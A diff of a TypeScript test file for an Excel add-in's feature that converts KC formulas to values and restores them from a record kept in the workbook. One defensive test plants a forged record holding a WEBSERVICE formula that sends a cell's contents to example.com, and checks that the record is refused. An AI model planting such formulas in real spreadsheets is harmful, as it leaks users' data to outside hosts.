@@ -1,3 +1,4 @@
+import { CONVERSIONS_NAMESPACE, conversionXml } from "../../../src/data/conversions";
 import { bundledKc as kc } from "../../../src/functions/dataset-in-use";
 import { Dec } from "../../../src/domain/decimal";
 import { buildModel } from "../../../src/sheets/model";
@@ -264,8 +265,14 @@ describe("convert KC formulas to values in place", () => {
     expect(fake.sheet("Other")!.cells.get("0,0")?.formula).toBe("=KC.FX()");
     expect(fake.cell("KC Income Statement", "F6")?.formula).toContain("KC.VALUE");
 
-    const restored = await restoreFormulas(conversion, fake.api);
-    expect(restored).toEqual({ sheet: "DCF", restored: 5, changed: [] });
+    const restored = await restoreFormulas(fake.api);
+    expect(restored).toEqual({
+      sheet: "DCF",
+      restored: 5,
+      changed: [],
+      remaining: 0,
+      warnings: [],
+    });
     // The same formulas and notes (values and arrays are Excel's to compute again).
     expect(fake.snapshot({ uncomputed: true })).toBe(before);
   });
@@ -273,10 +280,10 @@ describe("convert KC formulas to values in place", () => {
   test("restore leaves a cell the user changed since, and says which", async () => {
     const fake = await workbook();
     fake.selection = { sheet: "DCF", address: "B1:C2" };
-    const conversion = await convertSelection(kcf, fake.api);
+    await convertSelection(kcf, fake.api);
     fake.sheet("DCF")!.cells.set("0,1", { value: 5000000 });
-    const restored = await restoreFormulas(conversion, fake.api);
-    expect(restored).toEqual({ sheet: "DCF", restored: 1, changed: ["B1"] });
+    const restored = await restoreFormulas(fake.api);
+    expect(restored).toMatchObject({ sheet: "DCF", restored: 1, changed: ["B1"] });
     expect(fake.cell("DCF", "B1")).toEqual({ value: 5000000 });
     expect(fake.cell("DCF", "C2")?.formula).toBe('=KC.REVENUE(B2,"public")');
     expect(fake.note("DCF", "C2")).toBe("checked against the release");
@@ -288,6 +295,18 @@ describe("convert KC formulas to values in place", () => {
     const before = fake.snapshot();
     await expect(convertSelection(kcf, fake.api, "DCF!B1:B2")).rejects.toThrow(
       "The selection moved to DCF!A1:C7 after you confirmed DCF!B1:B2: nothing was converted."
+    );
+    expect(fake.snapshot()).toBe(before);
+  });
+
+  test("a selection of more KC formulas than one record keeps is refused, nothing converted", async () => {
+    const cells: Record<string, unknown> = {};
+    for (let r = 1; r <= 5001; r++) cells[`A${r}`] = { formula: "=KC.FXRATE()", value: 6.898 };
+    const fake = new FakeExcel([{ name: "Big", cells }]);
+    fake.selection = { sheet: "Big", address: "A1:A5001" };
+    const before = fake.snapshot();
+    await expect(convertSelection(kcf, fake.api)).rejects.toThrow(
+      "The selection (Big!A1:A5001) holds 5,001 KC formulas; at most 5,000 are converted at once, so that Restore formulas can put them back: select fewer and convert in parts. Nothing was converted."
     );
     expect(fake.snapshot()).toBe(before);
   });
@@ -330,10 +349,101 @@ describe("convert KC formulas to values in place", () => {
       (e: ShareError) => e
     );
     expect(error?.message).toBe(
-      "Converting the formulas failed (Simulated failure during sync), and putting them back failed too (Simulated failure during sync): press Restore formulas to try again."
+      "Converting the formulas failed (Simulated failure during sync), and putting them back failed too (Reading the workbook's records of conversions failed (Simulated failure during sync); nothing was changed. Try again.): some cells of \"DCF\" may hold values. Press Restore formulas: the conversion's record is in the workbook."
     );
-    await restoreFormulas(error!.conversion!, fake.api);
+    await restoreFormulas(fake.api);
     expect(fake.snapshot({ uncomputed: true })).toBe(before);
+  });
+});
+
+describe("the conversion's record in the workbook", () => {
+  test("restore works after the workbook is reopened: a fresh pane over the saved workbook, on another machine too", async () => {
+    const fake = await workbook();
+    fake.selection = { sheet: "DCF", address: "A1:C7" };
+    const before = fake.snapshot({ uncomputed: true });
+    await convertSelection(kcf, fake.api);
+    expect(fake.xmlParts.map((p) => p.namespace)).toEqual([CONVERSIONS_NAMESPACE]);
+    // Saved, closed, opened elsewhere: the same sheets and parts, a pane with nothing in memory,
+    // and (ASSUMED possible) the sheet under another id.
+    const reopened = fake.clone();
+    reopened.sheet("DCF")!.id = "{00000000-0009-0000-0000-000000000000}";
+    let fresh!: typeof import("../../../src/taskpane/share");
+    jest.isolateModules(() => {
+      fresh = jest.requireActual("../../../src/taskpane/share");
+    });
+    await expect(fresh.restoreFormulas(reopened.api)).resolves.toMatchObject({
+      sheet: "DCF",
+      restored: 5,
+      changed: [],
+      remaining: 0,
+    });
+    const sheetIds = (s: string) => s.replace(/"id": "\{[^}]*\}"/g, '"id": ""');
+    expect(sheetIds(reopened.snapshot({ uncomputed: true }))).toBe(sheetIds(before));
+  });
+
+  test("two conversions: the latest is restored first, then the earlier", async () => {
+    const fake = await workbook();
+    fake.selection = { sheet: "DCF", address: "B1" };
+    await convertSelection(kcf, fake.api, undefined, () => new Date("2026-05-20T08:00:00Z"));
+    fake.selection = { sheet: "DCF", address: "C2" };
+    await convertSelection(kcf, fake.api, undefined, () => new Date("2026-05-20T09:00:00Z"));
+    await expect(restoreFormulas(fake.api)).resolves.toMatchObject({ remaining: 1 });
+    expect(fake.cell("DCF", "C2")?.formula).toBe('=KC.REVENUE(B2,"public")');
+    expect(fake.cell("DCF", "B1")?.formula).toBeUndefined();
+    await expect(restoreFormulas(fake.api)).resolves.toMatchObject({ remaining: 0 });
+    expect(fake.cell("DCF", "B1")?.formula).toBe('=KC.VALUE("revenue.total","2026Q1")*2');
+    expect(fake.xmlParts).toEqual([]);
+    await expect(restoreFormulas(fake.api)).rejects.toThrow(
+      "This workbook records no conversion to values: there is nothing to restore."
+    );
+  });
+
+  test("a record that is not the pane's is refused, and nothing is written", async () => {
+    const fake = await workbook();
+    fake.sheet("DCF")!.cells.set("0,1", { value: 1 });
+    fake.addXmlPart(
+      conversionXml({
+        id: "0a1b2c3d",
+        at: "2026-05-20T08:00:00.000Z",
+        sheet: "DCF",
+        sheetId: fake.sheet("DCF")!.id,
+        address: "DCF!B1",
+        cells: [
+          {
+            address: "B1",
+            area: "B1",
+            formula: '=WEBSERVICE("https://example.com/?"&A1)',
+            shown: [[1]],
+            note: { after: "x" },
+          },
+        ],
+      })
+    );
+    fake.addXmlPart(`<conversion xmlns="${CONVERSIONS_NAMESPACE}">{"id":1}</conversion>`);
+    const before = fake.snapshot();
+    const error = await restoreFormulas(fake.api).then(
+      () => "",
+      (e: Error) => e.message
+    );
+    expect(error).toContain(
+      "names a formula that calls no KC function (DCF!B1), which KC Financials never converts: it was not read."
+    );
+    expect(error).toContain(
+      'A record of a conversion to values in this workbook was not read: the record lacks its field "at".'
+    );
+    expect(fake.snapshot()).toBe(before);
+  });
+
+  test("a restore that fails and cannot be finished says what state the cells are in and what to do", async () => {
+    const fake = await workbook();
+    fake.selection = { sheet: "DCF", address: "A1:C7" };
+    await convertSelection(kcf, fake.api);
+    const start = fake.syncs;
+    for (let n = start + 4; n <= start + 12; n++) fake.failAt(n, 1);
+    await expect(restoreFormulas(fake.api)).rejects.toThrow(
+      'Restoring the formulas failed (Simulated failure during sync), and finishing it failed too: some cells of "DCF" (DCF!A1:C7) may hold their formulas again and others still values. The conversion\'s record is still in the workbook: press Restore formulas again to finish.'
+    );
+    expect(fake.xmlParts).toHaveLength(1);
   });
 });
 
@@ -367,16 +477,33 @@ describe("what the pane says", () => {
 
   test("before and after converting in place, and after restoring", () => {
     expect(confirmText({ address: "DCF!A1:C7", count: 5 })).toBe(
-      "Replace the 5 KC formulas in DCF!A1:C7 by their values? Each keeps its formula and source in a cell note, and Restore formulas puts them back while this pane stays open."
+      "Replace the 5 KC formulas in DCF!A1:C7 by their values? Each keeps its formula and source in a cell note, and Restore formulas puts them back, also after the workbook is closed and opened again."
     );
     expect(
-      conversionSummary({ sheet: "DCF", sheetId: "x", address: "DCF!B1", cells: [] as never[] })
+      conversionSummary({
+        id: "00000000",
+        at: "2026-05-20T08:31:02.000Z",
+        sheet: "DCF",
+        sheetId: "x",
+        address: "DCF!B1",
+        cells: [],
+      })
     ).toBe(
-      "Replaced 0 KC formulas in DCF!B1 by their values. Restore formulas puts them back while this pane stays open."
+      "Replaced 0 KC formulas in DCF!B1 by their values. Restore formulas puts them back: the workbook keeps a record of them."
     );
-    expect(restoreSummary({ sheet: "DCF", restored: 1, changed: ["B1", "B4"] })).toEqual([
+    expect(
+      restoreSummary({
+        sheet: "DCF",
+        restored: 1,
+        changed: ["B1", "B4"],
+        remaining: 1,
+        warnings: ["Restoring failed part way (x); it was finished afterwards."],
+      })
+    ).toEqual([
+      "Restoring failed part way (x); it was finished afterwards.",
       'Put back 1 formula in "DCF".',
       "Left 2 cells you changed since, as they are: B1, B4.",
+      "The workbook records 1 earlier conversion: Restore formulas again puts back the latest.",
     ]);
   });
 });
